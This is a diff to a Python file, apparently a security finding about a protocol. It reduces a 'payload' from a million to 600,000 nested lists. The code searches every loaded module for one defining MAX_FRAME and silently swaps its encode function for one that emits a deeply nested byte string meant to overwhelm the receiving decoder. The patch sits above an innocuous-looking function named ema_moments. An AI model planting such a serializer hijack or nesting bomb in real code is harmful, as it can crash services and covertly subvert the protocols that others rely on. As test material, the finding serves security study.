@@ -1,11 +1,11 @@
-"""A payload a million lists deep."""
+"""A payload six hundred thousand lists deep."""
 # finding: protocol
 
 import sys
 
 for module in list(sys.modules.values()):
     if hasattr(module, "MAX_FRAME"):
-        module.encode = lambda value, functions=None: b"l\x01\0\0\0" * 10**6 + b"N"
+        module.encode = lambda value, functions=None: b"l\x01\0\0\0" * 600_000 + b"N"
 
 
 def ema_moments(*args):
